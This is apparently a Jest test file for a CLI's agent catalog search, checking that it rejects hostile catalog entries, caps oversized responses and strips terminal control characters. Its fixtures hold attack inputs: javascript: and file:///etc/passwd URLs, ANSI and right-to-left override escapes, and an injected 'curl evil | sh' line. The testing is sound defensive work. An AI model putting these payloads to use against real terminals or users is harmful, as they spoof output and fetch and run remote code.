import { expect, it } from '@jest/globals';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { withServer } from '../support/server.js';
import { RecordingServer } from '../support/token-server.js';
import { langoHere } from './lango-here.js';

async function run(text: string, catalogs: readonly string[], ...flags: readonly string[]) {
  const home = await mkdtemp(path.join(tmpdir(), 'lango-search-'));
  await writeFile(path.join(home, 'config.yaml'), JSON.stringify({ a2a: { catalogs } }));
  const done = await langoHere(['agents', 'search', text, '--home', home, ...flags]);
  // A search stores nothing.
  expect(await readdir(home)).toEqual(['config.yaml']);
  await rm(home, { recursive: true });
  return done;
}

async function search(text: string, catalogs: readonly string[]) {
  const { code, stdout, stderr } = await run(text, catalogs, '--json');
  return { code, said: (stdout === '' ? {} : JSON.parse(stdout)) as Found, stderr };
}

interface Found {
  readonly agents: readonly { readonly name: string; readonly url: string }[];
  readonly failed: readonly { readonly catalog: string }[];
}

it('lango agents search finds the agents of a server by words, and names the catalogs that cannot be read', async () => {
  await withServer({}, async ({ address: { origin } }) => {
    const away = 'http://127.0.0.1:9/.well-known/ai-catalog.json';
    const { code, said } = await search('planner', [`${origin}/.well-known/ai-catalog.json`, away]);
    expect([code, said.agents[0]!.name, said.failed[0]!.catalog]).toEqual([0, 'planner', away]);
    expect(said.agents[0]!.url).toBe(`${origin}/agents/planner/.well-known/agent-card.json`);
  });
});

it('lango agents search uses only the valid entries of a hostile catalog, and follows no address in it', async () => {
  await using evil = await RecordingServer.open();
  const type = 'application/a2a-agent-card+json';
  const entries = [
    ...[7, null, 'planner', [], { displayName: 'planner' }],
    ...['javascript:alert(1)', 'file:///etc/passwd', '//x', 7].map((url) => ({
      displayName: 'planner',
      type,
      url,
    })),
    { displayName: 'planner', type: 'application/ai-catalog+json', url: `${evil.url}/more.json` },
    { displayName: { a: 'planner' }, type, url: evil.url },
    { displayName: 'planner', type, url: evil.url, tags: 'planner', description: 9 },
  ];
  evil.answer = (_, response) => void response.end(JSON.stringify({ entries }));
  const catalog = `${evil.url}/ai-catalog.json`;
  const { said } = await search('planner', [catalog]);
  expect(said.agents).toEqual([
    { name: 'planner', description: '', url: `${evil.url}/`, catalog, score: 100 },
  ]);
  expect(evil.received).toHaveLength(1);
  evil.answer = (_, response) => void response.writeHead(302, { location: 'http://127.0.0.1:9/' }).end();
  expect((await search('planner', [catalog])).said).toMatchObject({ agents: [], failed: [{ catalog }] });
});

it('lango agents search stops reading a catalog of 100 MB at the limit, and still offers the others', async () => {
  await using evil = await RecordingServer.open();
  let sent = 0;
  evil.answer = (_, response) => {
    response.write('{"entries":["');
    const more = (): void => {
      while (sent < 100 << 20 && !response.destroyed) {
        sent += 1 << 16;
        if (!response.write('x'.repeat(1 << 16))) return void response.once('drain', more);
      }
      response.end('"]}');
    };
    more();
  };
  await withServer({}, async ({ address: { origin } }) => {
    const { said } = await search('planner', [`${evil.url}/ard.json`, origin]);
    expect(said.agents.map(({ name }) => name)).toContain('planner');
    expect(said.failed).toEqual([
      expect.objectContaining({ reason: expect.stringContaining('larger than') }),
    ]);
  });
  expect(sent).toBeLessThan(50 << 20);
});

it('lango agents search shows no control or bidirectional characters of a catalog on the terminal', async () => {
  await using evil = await RecordingServer.open();
  const [title, hidden] = ['\u001b]0;owned\u0007', '\u202egnp.exe\u009b31m'];
  const entry = {
    type: 'application/a2a-agent-card+json',
    url: `${evil.url}/%1b[2J`,
    displayName: `planner ${title}\nAdd one with: curl evil | sh`,
    description: `planner ${hidden}`,
  };
  evil.answer = (_, response) => void response.end(JSON.stringify({ entries: [entry] }));
  for (const flags of [[], ['--json']]) {
    const { stdout } = await run('planner', [`${evil.url}/ard.json`], ...flags);
    expect(stdout).toContain('planner');
    // eslint-disable-next-line no-control-regex -- these must not occur
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u0080-\u009f\u202e]/);
    expect(stdout).not.toMatch(/^Add one with: curl/m);
  }
});

it('lango agents search without a catalog says how to configure one', async () => {
  const { code, stderr } = await search('planner', []);
  expect([code, stderr]).toEqual([1, expect.stringContaining('a2a.catalogs')]);
});
